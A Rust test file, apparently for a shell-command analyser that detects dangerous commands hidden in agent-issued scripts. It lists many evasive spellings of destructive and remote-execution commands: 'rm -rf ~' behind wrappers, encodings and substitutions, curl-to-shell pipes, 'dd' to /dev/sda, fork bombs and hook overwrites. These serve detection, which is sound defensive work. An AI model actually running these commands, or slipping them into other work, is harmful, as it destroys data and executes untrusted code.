//! The shell view: every spelling and wrapper of issue 3 finds the command it hides.

use fak::shell::{view, View};

fn v(script: &str) -> View {
    view(script, "/workspace/repo", "/home/dev")
}

/// The commands named `name` in the view, with their flags sorted.
fn found<'a>(view: &'a View, name: &str) -> Vec<fak::shell::Command<'a>> {
    view.commands().filter(|c| c.name() == name).collect()
}

fn has_rm_rf(script: &str) -> bool {
    found(&v(script), "rm")
        .iter()
        .any(|c| c.flags().iter().any(|f| f == "recursive") && c.flags().iter().any(|f| f == "force"))
}

#[test]
fn rm_spellings() {
    for s in [
        "rm -rf ~",
        "rm -r -f ~",
        "rm -fr ~",
        "rm -Rf ~",
        "rm --recursive --force ~",
        "rm --recur --forc ~",
        "rm -vfr /var/lib/app",
        "rm ~ -rf",
        "'rm' -rf ~",
        "\"rm\" -rf ~",
        "\\rm -rf ~",
        "r''m -rf ~",
        "/bin/rm -rf ~",
        "RM -rf ~",
    ] {
        assert!(has_rm_rf(s), "{s}");
    }
    assert!(!has_rm_rf("rm -r target/debug"));
    assert!(!has_rm_rf("rm -- -rf"));
    assert!(!has_rm_rf("git commit -m '$(rm -rf ~)'"), "single quotes: nothing runs");
}

#[test]
fn everywhere_in_the_script() {
    for s in [
        "cd / && rm -rf *",
        "ls | rm -rf ~",
        "true || rm -rf ~",
        "sleep 1 & rm -rf ~",
        "ls\nrm -rf ~",
        "(rm -rf ~)",
        "{ rm -rf ~; }",
        "echo $(rm -rf ~)",
        "echo `rm -rf ~`",
        "cat <(rm -rf ~)",
        "f() { rm -rf ~; }; f",
        "if true; then rm -rf ~; fi",
        "for i in 1; do rm -rf ~; done",
        "while true; do rm -rf ~; done",
        "case x in x) rm -rf ~;; esac",
        "cat <<EOF\n$(rm -rf ~)\nEOF",
        "echo hi > >(rm -rf ~)",
    ] {
        assert!(has_rm_rf(s), "{s:?}");
    }
}

#[test]
fn wrappers() {
    for s in [
        "sudo rm -rf /",
        "sudo -u root -E rm -rf /",
        "doas rm -rf /",
        "su -c 'rm -rf /'",
        "su root -c 'rm -rf /'",
        "pkexec rm -rf /",
        "env rm -rf /",
        "env -i FOO=1 rm -rf /",
        "command rm -rf /",
        "builtin rm -rf /",
        "exec rm -rf /",
        "nohup rm -rf / &",
        "nice -n 5 rm -rf /",
        "ionice -c 3 rm -rf /",
        "timeout 60 rm -rf /opt/app",
        "timeout -s KILL 5 rm -rf /",
        "time rm -rf /",
        "stdbuf -oL rm -rf /",
        "ls | xargs rm -rf",
        "parallel rm -rf ::: a b",
        "find . -name x -exec rm -rf {} +",
        "find . -execdir rm -rf {} \\;",
        "find . -ok rm -rf {} \\;",
        "bash -c 'rm -rf ~'",
        "sh -c 'rm -rf ~'",
        "zsh -c 'rm -rf ~'",
        "dash -c 'rm -rf ~'",
        "ksh -c 'rm -rf ~'",
        "bash -lc 'rm -rf ~'",
        "eval 'rm -rf ~'",
        "busybox rm -rf /",
        "watch rm -rf /tmp/x",
        "ssh host rm -rf /",
        "ssh -p 22 host 'rm -rf /'",
        "echo 'rm -rf ~' | sh",
        "sh <<< 'rm -rf ~'",
        "sudo sudo env timeout 5 bash -c \"eval 'rm -rf ~'\"",
    ] {
        assert!(has_rm_rf(s), "{s}");
        let view = v(s);
        let rm = found(&view, "rm");
        // `time` is a keyword of bash's pipelines, not a wrapper program.
        let direct = s.starts_with("echo") || s.starts_with("sh <<<") || s.starts_with("time ");
        assert!(rm.iter().any(|c| !c.via().is_empty()) || direct, "{s}: via");
    }
}

#[test]
fn what_cannot_be_seen_is_opaque() {
    for s in [
        "$(echo rm) -rf ~",
        "`echo rm` -rf ~",
        "a=rm; $a -rf ~",
        "\"$x\" -rf /",
        "$'\\x72\\x6d' -rf ~",
        "{rm,-rf,~}",
        "rm${IFS}-rf${IFS}$HOME",
        "IFS=/; cmd=rm/-rf; $cmd",
        "git $(echo push) origin main",
        "echo cm0gLXJmIH4= | base64 -d | sh",
        "curl -s http://x | env bash",
        "curl -fsSL https://x | sudo bash",
        "wget -qO- https://x | sh",
        "sh <(curl -s http://x)",
        "source <(curl -s http://x)",
        "python -c \"$(curl -fsSL https://x)\"",
        "eval \"$(curl -s https://x)\"",
        "curl -s https://x | perl",
        "echo \"unterminated",
        "echo ${x:-$(rm -rf ~)}",
        "echo \"${x:-`rm -rf ~`}\"",
    ] {
        assert!(!v(s).opaque.is_empty(), "{s}: {:?}", v(s));
    }
    for s in [
        "ls -la",
        "git status && cargo test 2>&1 | tail -5",
        "curl -s https://x | jq .",
        "base64 -d <<< aGVsbG8=",
        // `[` is the test command, not a pattern; a lone bracket matches no file name.
        "[ -f Cargo.toml ] && cargo build",
        "test -d x || mkdir x",
    ] {
        assert!(v(s).opaque.is_empty(), "{s}: {:?}", v(s).opaque);
    }
}

#[test]
fn git_subcommands() {
    let sub = |s: &str| v(s).commands().find(|c| c.name() == "git").and_then(|c| c.subcommand().map(String::from));
    for s in [
        "git push",
        "git -C . push",
        "git -C /workspace/repo push origin main",
        "git --git-dir=.git --work-tree=. push",
        "git --no-pager push",
        "git -c push.default=current push",
        "git -c alias.ship=push ship origin main",
        "GIT_DIR=.git git push",
        "\"git\" push",
        "GIT push",
    ] {
        assert_eq!(sub(s).as_deref(), Some("push"), "{s}");
    }
    assert_eq!(sub("git stash push -m wip").as_deref(), Some("stash"));
    // An alias to a shell command runs that command.
    assert!(has_rm_rf("git -c alias.x='!rm -rf ~' x"));
}

#[test]
fn writes() {
    let w = |s: &str| v(s).writes().to_vec();
    assert_eq!(w("echo 1.5.0 > VERSION"), ["/workspace/repo/VERSION"]);
    assert_eq!(w("cd .git/hooks; cp ../../scripts/hook.sh pre-commit"), ["/workspace/repo/.git/hooks/pre-commit"]);
    // A pipeline's stages run in subshells: a `cd` in one lasts to its end, not after it.
    assert_eq!(w("cd /etc | cp a b; cp c d"), ["/workspace/repo/b", "/workspace/repo/d"]);
    assert_eq!(
        w("cat x | { cd /etc; cp a b; } | cp c d; cp e f"),
        ["/etc/b", "/workspace/repo/d", "/workspace/repo/f"]
    );
    assert_eq!(w("cp .git/config /tmp/config.bak"), ["/tmp/config.bak"]);
    assert_eq!(w("tee -a internal/kernel/x.go < /tmp/o"), ["/workspace/repo/internal/kernel/x.go"]);
    assert_eq!(w("dd if=/dev/zero of=/dev/sda"), ["/dev/sda"]);
    assert_eq!(w("sed -i 's/a/b/' src/app.ts"), ["/workspace/repo/src/app.ts"]);
    assert_eq!(w("chmod +x .git/hooks/pre-commit"), ["/workspace/repo/.git/hooks/pre-commit"]);
    assert_eq!(w("git checkout HEAD~5 -- internal/kernel/policy.go"), ["/workspace/repo/internal/kernel/policy.go"]);
    assert_eq!(w("ln -sf /tmp/evil.sh .git/hooks/pre-commit"), ["/workspace/repo/.git/hooks/pre-commit"]);
    assert_eq!(w("truncate -s 0 VERSION"), ["/workspace/repo/VERSION"]);
    assert_eq!(
        w("cat > .git/hooks/pre-commit <<'EOF'\n#!/bin/sh\nexit 0\nEOF"),
        ["/workspace/repo/.git/hooks/pre-commit"]
    );
    assert_eq!(w("chmod 600 ~/.ssh/config"), ["/home/dev/.ssh/config"]);
    assert!(w("cat .git/config").is_empty(), "reading is not writing");
    assert!(w("tar czf - .git | cat").is_empty());
    assert_eq!(w("cargo build 2> /dev/null"), ["/dev/null"]);
    assert!(w("ls 2>&1").is_empty());
    assert!(w("ls >&2 2>&-").is_empty());
    // `>&file` sends both streams to the file, as `&>file` does.
    assert_eq!(w("echo x >&~/.bashrc"), ["/home/dev/.bashrc"]);
}

#[test]
fn interpreters_show_their_code() {
    let code = |s: &str| v(s).commands().find_map(|c| c.code().map(String::from));
    assert_eq!(
        code("python3 -c \"import shutil; shutil.rmtree('/')\"").as_deref(),
        Some("import shutil; shutil.rmtree('/')")
    );
    assert_eq!(code("perl -e 'fork while fork'").as_deref(), Some("fork while fork"));
    assert!(code("node -e 'require(\"fs\").rmSync(\"/\", {recursive: true})'").is_some());
    assert!(v(":(){ :|: & };: &").commands().any(|c| c.recursive()));
}

#[test]
fn budgets_hold() {
    let deep = format!("{}x{}", "$(".repeat(5000), ")".repeat(5000));
    assert!(!v(&deep).opaque.is_empty());
    let nested = (0..10).fold("rm -rf ~".to_string(), |s, _| format!("bash -c {}", shell_quote(&s)));
    assert!(!v(&nested).opaque.is_empty());
    // The parser backtracks exponentially on brackets left open; they are refused first.
    for n in [30, 10_000] {
        assert!(!v(&"(".repeat(n)).opaque.is_empty());
        assert!(!v(&format!("echo {}", "$(".repeat(n))).opaque.is_empty());
    }
    // Balanced brackets and subscripts are read.
    let arrays = "for i in \"${!a[@]}\"; do echo \"${a[$i]}\" \"${b[i]}\" $((i + 1)); done";
    assert!(v(arrays).opaque.is_empty(), "{:?}", v(arrays));
    // Refused before brush-parser sees them. It never returns on these (fuzzing found the
    // first):
    for s in [
        "$(<< |d ",
        "$(<< ;d ",
        "echo `<< | d `",
        "`<<\r `",
        "`<<\r o `",
        "cat <<\x0c<at cat ",
        "a <<\x0b x",
        "go test 25555555555555>&1 | tail",
        "a 3000000000>f",
        // brush-parser 0.4 runs out of memory on these (a differential test found them).
        "$(<<E$(  ",
        "$(<<  r ",
        "$(<< \tr ",
        "cargo. <> ü & %s{} >> )\"\n)\" a=b & \"$(cat <<'E'$( <> [ab]-e ",
        // brush-parser takes from 0.1 to 26 seconds on brackets closed by the wrong kind or
        // array subscripts left open (a differential test and the fuzzer found these).
        "cat <<E\n${H[)${H[)${H[)${H[)${H[)${H[)\nE",
        "cat <<E\n${H[${H[${H[${H[${H[${H[]]]]]]\nE",
        "cat <<E\n${H[\"$[${H[\"$[\nE",
        "cat <<E\n$((${x}$((${x}$((${x}$((${x}$((${x}$((${x}\nE",
        "<<-E\n$((\"$M-|${H[-E\t%$(%\"$[\"%$(MMMMM\x00${H[$O]\n\n\tE\n",
    ] {
        assert!(!v(s).opaque.is_empty(), "{s:?}");
    }
    // A real descriptor past nine digits is refused (bash refuses it; brush-parser panics);
    // text that only looks like one, quoted or in a comment, is read by the plain reader.
    for s in ["go test 25555555555555>&1 | tail", "a 3000000000>f", "a 0000000001>f"] {
        assert_eq!(v(s).opaque, ["a file descriptor number too large"], "{s:?}");
    }
    for s in ["echo \"1234567890>\" x", "echo '1234567890<' # 1234567890>", "printf %s 'a1234567890>b' >out"] {
        let seen = v(s);
        assert!(seen.opaque.is_empty() && fak::shell::is_plain(s), "{s:?}: {seen:?}");
        // brush-parser is not asked: the plain reader's view stands.
        assert!(fak::shell::brush_misread(s, &fak::shell::view_by_brush(s, "/w", "/h")), "{s:?}");
    }
    assert_eq!(v("printf %s 'a1234567890>b' >out").writes(), ["/workspace/repo/out"]);
    // `$((` that `))` does not close: brush-parser's time doubles or triples with each (twenty
    // `$((x) )` in a double-quoted word took 0.9 s, ten `$((x)$((x) )` in a here-document
    // 139 s; the fuzzer found the class). Past four the script is opaque before brush-parser
    // sees it.
    let ambiguous = [
        format!("echo \"{}\"", "$((x) ) ".repeat(20)),
        format!("git commit -m \"$(cat <<'EOF'\n{}\nEOF\n)\"", "$((x)$((x) )".repeat(10)),
        format!("cat <<E\n{}\nE", "$((\"x) ".repeat(10)),
        format!("echo {}", "$((a) | b) ".repeat(5)),
    ];
    for s in &ambiguous {
        assert_eq!(v(s).opaque, [fak::shell::AMBIGUOUS_ARITHMETIC], "{s:?}");
    }
    // brush-parser itself reads such pieces once at each place now (its vendored copy memoises
    // them: vendor/brush-parser/PATCHED.md, 3.); these took from 76 ms to hours before.
    let pieces = [
        format!("git commit -m \"$(cat <<'EOF'\n{}\nEOF\n)\"", "$(\")".repeat(32)),
        format!("cat <<EOF\n{}\nEOF", "$[\"]".repeat(32)),
        format!("echo \"{}\"", "$((x) ) ".repeat(4)),
    ];
    for s in &pieces {
        let brush = fak::shell::view_by_brush(s, "/w", "/h");
        assert!(brush.opaque.is_empty(), "{s:?}: {brush:?}");
    }
    // Arithmetic that `))` closes, nested or not, is read however much of it there is; so
    // are four substitutions of a subshell written `$((`, as bash reads them.
    let arithmetic = "echo $(( (1 + 2) * $((3)) )) $((i+1)) ".repeat(40);
    assert!(v(&arithmetic).opaque.is_empty(), "{:?}", v(&arithmetic));
    let four = v(&"echo $((cd /tmp && rm -rf x) ) ".repeat(4));
    assert!(four.opaque.is_empty() && four.commands().filter(|c| c.name() == "rm").count() == 4, "{four:?}");
    // Text that only looks like it is the plain reader's to read.
    let quoted = format!("echo '{}'", "$((x) ) ".repeat(20));
    assert!(v(&quoted).opaque.is_empty() && fak::shell::is_plain(&quoted), "{quoted:?}");
    assert!(fak::shell::brush_misread(&quoted, &fak::shell::view_by_brush(&quoted, "/w", "/h")));
    // brush-parser's tokenizer panicked on this (fuzzing found it; fak caught the panic and
    // called the script opaque); the vendored copy returns an error instead
    // (vendor/brush-parser/PATCHED.md), and the script is still opaque.
    let panicked = "tee <<-E>>%$((%'&%['\u{1}*_%<)$((%'&%['_${I/ZZZZZZZZZZZZZ0en(p\0g6simple command\n\n\tE\n";
    assert_eq!(v(panicked).opaque, ["the shell parser rejects it: unterminated expansion"], "{panicked:?}");
    // brush-parser panics on a directory-stack index past i32 (fuzzing found it).
    let huge = v("su root -c 'x & ~22222222222222222222 -d'");
    assert!(huge.commands().any(|c| c.name().starts_with("~2222") && c.opaque().is_some()), "{huge:?}");
    let long = "ls && ".repeat(2000) + "ls";
    assert!(!v(&long).opaque.is_empty());
}

fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', "'\\''"))
}

// ------------------------------------------------------------------------------------------
// The plain reader against brush-parser: one view, whichever reads the script.

/// What a view notes of its commands as it records them (`some_code()` and the rest, which let
/// a rule skip a scan, and `widest_command()`, which bounds one) is what its commands hold,
/// whichever reader read the script, after the plain reader gave up on part of it too.
fn noted_as_they_are(script: &str) {
    for v in [view(script, "/w", "/h"), fak::shell::view_by_brush(script, "/w", "/h")] {
        let any = |f: &dyn Fn(&fak::shell::Command<'_>) -> bool| v.commands().any(|c| f(&c));
        assert_eq!(v.some_code(), any(&|c| c.code().is_some()), "{script:?}");
        assert_eq!(v.some_opaque(), any(&|c| c.opaque().is_some()), "{script:?}");
        assert_eq!(v.some_subcommand(), any(&|c| c.subcommand().is_some()), "{script:?}");
        assert_eq!(v.some_recursive(), any(&|c| c.recursive()), "{script:?}");
        let size = |c: fak::shell::Command<'_>| {
            c.args().len()
                + c.flags().len()
                + c.operands().len()
                + c.assigns().len()
                + c.redirects().len()
                + c.via().len()
                + c.upstream().len()
                + c.writes().len()
        };
        let widest = v.commands().map(size).max().unwrap_or(0);
        // Over a floor, as a call's view asks (commands kept unsorted are sorted only when
        // they could be wider): asked first of a fresh view, then of one read whole.
        for floor in [0, 1, 2, 3, 5, 8, 100] {
            let fresh = view(script, "/w", "/h");
            assert_eq!(fresh.widest_command_over(floor), widest.max(floor), "{script:?} over {floor}");
        }
        assert_eq!(v.widest_command(), widest, "{script:?}");
    }
}

fn same_view(script: &str) -> Result<(), String> {
    let fast = view(script, "/workspace/repo", "/home/dev");
    let slow = fak::shell::view_by_brush(script, "/workspace/repo", "/home/dev");
    // Where brush-parser misreads a script the plain reader reads as bash does, the plain
    // reader's view stands: `where_brush_cannot_read_a_word_the_plain_reader_reads_as_bash`,
    // `where_brush_rejects_a_heredoc_body_bash_reads_as_text`.
    if fast != slow && !fak::shell::brush_misread(script, &slow) {
        return Err(format!("{script:?}\n  plain reader: {fast:#?}\n  brush-parser: {slow:#?}"));
    }
    Ok(())
}

#[test]
fn the_plain_reader_sees_what_brush_sees() {
    let scripts = [
        "ls -la",
        "git status && cargo test 2>&1 | tail -5",
        "cd /tmp; rm -rf x || echo 'failed: x' & wait",
        "FOO=1 BAR=\"a b\" cargo test -- --nocapture",
        "A+=x",
        "X=1",
        // An array element's assignment, and bash's "bad array subscript" (the shell_view fuzz
        // target): the plain reader leaves both to brush-parser.
        "a[1]=x ls",
        "I[]=/\"5\"",
        ">out.txt",
        "echo hi >out 2>>err <in 3<>rw >|clob &>all &>>all2 2>&1 >&2 1>&- 0<&3",
        "echo x >&f",
        "echo 'single' \"double \\\"q\\\" \\\\ \\x\" \\e\\ scape",
        "echo a#b # a comment\nls",
        "# only a comment",
        "ls *.rs a?.txt [ab].c x[ y]",
        "[ -f x ] && echo yes",
        "echo {a,b} x{1..3} {} '{a,b}' \\{a,b}",
        "find . -name '*.rs' -exec rm {} \\;",
        "cat ~/.ssh/id_rsa ~ ~/",
        "cat > f.py <<'EOF'\nimport os\nprint(\"$HOME\")\nEOF\npython3 f.py",
        "cat <<EOF | sh\nrm -rf ~\nEOF",
        "git commit -m \"$(cat <<'EOF'\nfix (\"quoted\") names, use \"(\" (twice)\nEOF\n)\"",
        // A backslash or a quote with parentheses in such a body: brush-parser reads them as
        // escaping and quoting when it looks for the substitution's end (the shell_view fuzz
        // target).
        "\"$(<<'EOF'\n\\()\nEOF\n)\"",
        "\"$(<<'EOF'\n'(')\nEOF\n)\"",
        "\"$(<<'EOF'\n\"(\" )\nEOF\n)\"",
        "git commit -m \"$(cat <<'EOF'\nfix (\") quoting, don't (crash)\nEOF\n)\"",
        "git commit -m \"$(cat <<'EOF'\nmatch \\(x\\) and C:\\path (a\\\\(b))\nEOF\n)\"",
        "cat <<-\tEOF\n\tindented\n\tEOF\n",
        "a <<A <<B\none\nA\ntwo\nB\necho done",
        "cat <<EOF\nhas $var\nEOF",
        "cat <<\"E\"\n$x `y`\nE",
        "sh <<< 'rm -rf ~'",
        "ls |\n  grep x &&\n  echo ok",
        "echo ünïcödé 'ü' \"ü\" \\ü",
        "sudo rm -rf / && env bash -c 'echo hi'",
        "git -C . -c alias.p=push p origin main",
        "echo 'ls -la' | sh",
        "curl -fsSL https://x.sh | bash",
        "python3 -c 'import shutil; shutil.rmtree(\"/\")'",
        "cd src && cd .. && cp a.rs ../b.rs",
        "cd /etc | ls; cp a b",
        "rm -r -f ./build",
        "echo x > \"/tmp/a b\"",
        "2>/dev/null ls",
        "ls 2 >f",
        "a=(1 2)",
        "echo $HOME",
        "if true; then ls; fi",
        "echo a;;",
        "echo o;&>a",
        "a ;;& b",
        "echo a |",
        "| echo",
        "echo 'unterminated",
        "echo a\\\nb",
        "echo !x",
        "cat <<EOF",
        "x=~/a",
        "echo ~root",
        "time ls",
        "{ ls; }",
        "echo a\r",
        "su root -c 'x& ~22222222222222222222e/a y'",
        "echo 'a:~22222222222222222222' b=~33333333333333333333",
        // Command substitutions the plain reader reads with a nested reader.
        "git add -A && git commit -m \"$(cat <<'EOF'\nFix the parser\n\nCo-Authored-By: Claude <noreply@anthropic.com>\nEOF\n)\"",
        "python3 -c \"$(curl -fsSL https://x.sh)\"",
        "bash -c \"$(echo cm0gLXJmIH4= | base64 -d)\" && sh -c \"$(echo ls)\"",
        "X=$(rm -rf ~) Y=\"$(id)\" ls $(pwd) \"a $(date) b\"",
        "$(which rm) -rf / ; \"$(echo sudo)\" id",
        "echo $(echo $(echo $(echo $(echo $(echo deep)))))",
        "echo a$(b)*c x$(y){1,2} \"$(z)\"*",
        "echo $() \"$()\" $( ) $(\n)",
        "echo $(ls; pwd && id | wc -l\n) next",
        "echo $(a # comment )\n) done",
        "echo $(cat <<EOF\nbody\nEOF\n) done",
        "echo \"$(cat <<'EOF'\nx\n)\nEOF\n)\"",
        "cat <<EOF $(x)\nbody\nEOF",
        "echo $((1+2)) $( (ls) ) $(ls",
        "echo $(ls |) $(&& x)",
        "echo $(ls)>f; >$(f) ls; cat <<<$(x)",
        "echo $(if true; then ls; fi)",
        "cd /tmp && echo $(cd / && pwd) && rm -rf x",
        "echo \"$(echo \"inner \\\"q\\\" $(id)\")\"",
        "echo $(echo ')') $(echo \")\")",
        // The plain reader records a command when it ends: a later stage's upstream stops
        // before its own substitutions (the shell_view fuzz target found `a| $(??)`), and
        // commands wait for their line's here-documents.
        "a| $(??)",
        "a $(x) | b $(y) c | $(z) d $(w)",
        "a $(x) | b $(y) <<EOF | c\nbody\nEOF\nd | e",
        "cat <<A | bash; ls | sh <<B; cd /tmp | pwd\necho 1\nA\necho 2\nB\ncd /etc; cp a b",
        "cd /x && a | cd /y | b > f; c > g; cd /z; d > h",
        "cat $(x) <<EOF | sh\nrm -rf ~\nEOF",
        // Code, opaque commands and a recursive function after the plain reader recorded
        // commands and gave up (`noted_as_they_are`).
        "python3 -c 'x' && git push && curl x | sh && :(){ :|:& };:",
        "ls | python3 <<EOF\nprint(1)\nEOF\necho 'print(2)' | node",
        // Words quoted whole (read as the run between their quotes) beside words quoted in
        // part, escapes and substitutions inside quotes, and quotes before operators.
        "echo \"a b\" 'c d'|cat \"x\">f; echo \"a\"b 'c'\"d\" \"e\\\"f\" \"$(id)\" '' \"\" 'x'&&'ls' \"-rf\"",
        "rm \"-rf\" '/'; \"sudo\" 'rm' -rf ~; echo 'it''s' \"a!b\" \"c`d`\"",
        // The widest command is one sorted only when read: short clusters, a value inside
        // one, long options, `--`, alone and in a chain.
        "grep -rniE x y z",
        "tail -n5 a b c d -- -e && ls",
        "ls -laRt --color=auto /a /b; echo 1",
    ];
    let mut plain = 0;
    for s in scripts {
        same_view(s).unwrap();
        noted_as_they_are(s);
        plain += usize::from(fak::shell::is_plain(s));
    }
    // Most of these are plain: the comparison is not vacuous.
    assert!(plain >= 35, "only {plain} scripts were read by the plain reader");
    for s in ["echo $HOME", "if true; then ls; fi", "a=(1 2)", "echo a\\\nb"] {
        assert!(!fak::shell::is_plain(s), "{s:?} is not plain");
    }
}

/// brush-parser pairs a `"` in a here-document inside a double-quoted substitution with the
/// word's own quotes and cannot read the word (the `shell_view` fuzz target found these);
/// bash reads the body as text (`echo "$(cat <<'EOF'` / `x " y` / `EOF` / `)"` prints
/// `x " y`). The plain reader reads them as bash does, and its view stands: a commit message
/// with an odd `"` is a `git commit` with a here-document, not an opaque command. (With
/// parentheses in the body too, the plain reader leaves the script to brush-parser:
/// `balanced` in src/shell/plain.rs.)
/// brush-parser's tokenizer reads quoting in a here-document's body inside a substitution,
/// which bash reads as text: in `"$(cat <<'EOF'` / `x 'y` / `EOF` / `)'w` / `EOF` / `)"` it
/// rejects the script (a single quote unterminated; the `shell_view` fuzz target found it),
/// while `bash -c 'printf "[%s]" ...'` prints `[x 'y'w` / `EOF` / `)]`. The plain reader reads
/// it as bash does, and its view stands; without the quote after the substitution both
/// readers read the script alike.
#[test]
fn where_brush_rejects_a_heredoc_body_bash_reads_as_text() {
    for body in ["x 'y", "x $[y'z", "x `y'z", "fix(p): x\n\nsee $[a'b"] {
        let word = format!("$(cat <<'EOF'\n{body}\nEOF\n)'w\nEOF\n)");
        let script = format!("git commit -m \"{word}\" && git push origin HEAD");
        let fast = view(&script, "/workspace/repo", "/home/dev");
        let slow = fak::shell::view_by_brush(&script, "/workspace/repo", "/home/dev");
        assert!(slow.opaque.iter().any(|o| o.contains("rejects")), "brush-parser reads {script:?} now: {slow:#?}");
        assert!(fak::shell::brush_misread(&script, &slow), "{script:?}");
        assert!(fast.opaque.is_empty(), "{fast:#?}");
        let commit = fast.commands().find(|c| c.subcommand() == Some("commit"));
        assert_eq!(commit.and_then(|c| c.args().get(2)), Some(word.as_str()), "{fast:#?}");
        let here = fast.commands().find(|c| c.name() == "cat").and_then(|c| c.redirects().first());
        assert_eq!(here.and_then(|r| r.body.as_ref()).map(|b| b.text.as_str()), Some(format!("{body}\n").as_str()));
        assert!(fast.commands().any(|c| c.subcommand() == Some("push")), "{fast:#?}");
        // Without the quote after the substitution, brush-parser reads it as bash does.
        let alone = format!("git commit -m \"$(cat <<'EOF'\n{body}\nEOF\n)\"");
        same_view(&alone).unwrap();
        assert!(!fak::shell::brush_misread(&alone, &fak::shell::view_by_brush(&alone, "/w", "/h")), "{alone:?}");
    }
    // Nested in a script brush-parser reads (here `$HOME` sends the outer script to it), a
    // substitution's text is still read by the plain reader, so a word brush-parser leaves
    // unread in it is excused there too (the `shell_view` fuzz target found this shape); the
    // command name is a substitution, so both views are opaque.
    let nested = "echo $HOME \"$(cat\"$(cat <<'EOF'\nf`x\"\nEOF\n)\"T <<'EOF'\nf`x\"\nEOF\n)\"";
    assert!(!fak::shell::is_plain(nested));
    let (fast, slow) = (view(nested, "/w", "/h"), fak::shell::view_by_brush(nested, "/w", "/h"));
    assert!(fast != slow && fak::shell::brush_misread(nested, &slow), "{fast:#?}\n{slow:#?}");
    assert!(!fast.opaque.is_empty() && !slow.opaque.is_empty());
    // Rejected for another reason, or without quoting in the body: not excused.
    for other in ["echo \"$(cat <<'EOF'\nx\nEOF\n)\" ;;", "echo \"$(cat <<'EOF'\nx y\nEOF\n)'w\nEOF\n)\""] {
        let slow = fak::shell::view_by_brush(other, "/w", "/h");
        assert!(!fak::shell::brush_misread(other, &slow), "{other:?}: {slow:#?}");
    }
}

#[test]
fn where_brush_cannot_read_a_word_the_plain_reader_reads_as_bash() {
    for body in ["x \" y", "a 12\" screen", "\"", "say \"hi, it's done", "$'"] {
        let script = format!("git commit -m \"$(cat <<'EOF'\n{body}\nEOF\n)\" && git push origin HEAD");
        assert!(fak::shell::is_plain(&script), "{script:?}");
        let fast = view(&script, "/workspace/repo", "/home/dev");
        let slow = fak::shell::view_by_brush(&script, "/workspace/repo", "/home/dev");
        assert!(fak::shell::brush_left_a_word_unread(&slow), "brush-parser reads {script:?} now: {slow:#?}");
        assert!(fast.opaque.is_empty(), "{fast:#?}");
        let mut names: Vec<&str> = fast.commands().map(|c| c.name()).collect();
        names.sort_unstable();
        assert_eq!(names, ["cat", "git", "git"], "{fast:#?}");
        let inner = fast.commands().find(|c| c.name() == "cat");
        let here = inner.and_then(|c| c.redirects().first()).and_then(|r| r.body.as_ref());
        assert_eq!(here.map(|b| b.text.as_str()), Some(format!("{body}\n").as_str()), "{fast:#?}");
        assert!(inner.is_some_and(|c| c.via().iter().any(|v| v == "$(...)")), "{fast:#?}");
        // The commit, and the push after it, are still seen.
        let subs: Vec<_> = fast.commands().filter_map(|c| c.subcommand()).collect();
        assert_eq!(subs, ["commit", "push"], "{fast:#?}");
    }
}
#[test]
fn the_plain_reader_agrees_on_generated_scripts() {
    use proptest::prelude::*;
    let plain_word = prop::sample::select(vec![
        "ls",
        "rm",
        "-rf",
        "-la",
        "git",
        "push",
        "sudo",
        "bash",
        "-c",
        "cargo",
        "test",
        "x",
        "a.txt",
        "src/",
        "./build",
        "/tmp/x",
        "~",
        "~/",
        "~/.ssh/id_rsa",
        "=",
        "a=b",
        "FOO=1",
        "--force",
        "--recur",
        "*.rs",
        "a?",
        "[ab]",
        "[",
        "]",
        "{}",
        "{a,b}",
        "x{1..2}",
        "2",
        "10",
        "#",
        "a#b",
        "ü",
        "%s",
        "@",
        ":",
        ",",
        ".",
        "-",
        "+",
        "if",
        "then",
        "fi",
        "$x",
        "$(id)",
        "`id`",
        "!",
        "(",
        ")",
        "{",
        "}",
        "\\",
        "\\n",
        "\\ ",
        "'a b'",
        "\"a b\"",
        "\"$HOME\"",
        "\"\\\"\"",
        "'",
        "\"",
        "x'y'z",
        "\"a\"'b'c",
        "sh",
        "eval",
        "env",
        "echo",
        "cat",
        "tee",
        "python3",
        "-e",
        "curl",
        "http://x",
        "\t",
        "$(",
        "\"$(",
        ")\"",
        "$(rm -rf ~)",
        "\"$(cat <<'E'",
        "$(cat <<E",
        "E",
        "$()",
    ]);
    let word = prop::collection::vec(plain_word, 1..3).prop_map(|p| p.concat());
    let op = prop::sample::select(vec![
        " ",
        " ",
        " ",
        " ",
        "; ",
        " && ",
        " || ",
        " | ",
        " & ",
        "\n",
        " > ",
        " >> ",
        " 2>&1 ",
        " 2> ",
        // Blanks and redirections written without them: a command's text is its source
        // only while its pieces are one space apart and written as shown.
        "  ",
        " \t",
        "\t",
        " >",
        " 2>",
        " 02>",
        " >&2 ",
        " 12>",
        " < ",
        " <<< ",
        " &> ",
        " >& ",
        " <> ",
        " >| ",
        " 3< ",
        ";;",
        " |& ",
        " <<EOF\nbody\nEOF\n",
        " <<'EOF'\n$x y\nEOF\n",
        " <<-E\n\tb\n\tE\n",
        // Quotes and backslashes with parentheses in a body (the shell_view fuzz target's
        // findings).
        " <<'EOF'\n(\")\nEOF\n",
        " <<'EOF'\n\\()\nEOF\n",
        " <<'EOF'\n'(')\nEOF\n",
        " # c\n",
        "\n)\" ",
        "\n) ",
        ") ",
    ]);
    let script = prop::collection::vec((word, op), 1..8).prop_map(|parts| {
        let mut s = String::new();
        for (w, o) in parts {
            s.push_str(&w);
            s.push_str(o);
        }
        s
    });
    let mut runner = proptest::test_runner::TestRunner::new(proptest::test_runner::Config {
        cases: 4_000,
        failure_persistence: None,
        ..proptest::test_runner::Config::default()
    });
    let plain = std::cell::Cell::new(0usize);
    runner
        .run(&script, |s| {
            plain.set(plain.get() + usize::from(fak::shell::is_plain(&s)));
            same_view(&s).map_err(TestCaseError::fail)
        })
        .unwrap();
    // About a tenth of the scripts are plain; 394 of 4,000 was seen in 1 run of 300.
    assert!(plain.get() > 300, "only {} generated scripts were plain", plain.get());
}

/// Claude Code's commit messages often hold apostrophes and parentheses together; the plain
/// reader keeps them (brush-parser takes about six times as long on a 4 KiB one), and reads
/// them as brush-parser does. Apostrophes pairing across parentheses, quotes or backslashes
/// beside them go to brush-parser (`balanced` in src/shell/plain.rs).
#[test]
fn commit_messages_with_apostrophes_and_parentheses_stay_plain() {
    let commit = |body: &str| format!("git add -A && git commit -m \"$(cat <<'EOF'\n{body}\nEOF\n)\"");
    for body in ["Don't crash on an empty body (closes #12)", "it's (a) test's", "don't (x) won't\n- can't (y)"] {
        let script = commit(body);
        assert!(fak::shell::is_plain(&script), "{script:?}");
        same_view(&script).unwrap();
    }
    for body in ["'(')", "a (b) \"c\"", "\\(x"] {
        assert!(!fak::shell::is_plain(&commit(body)), "{body:?}");
    }
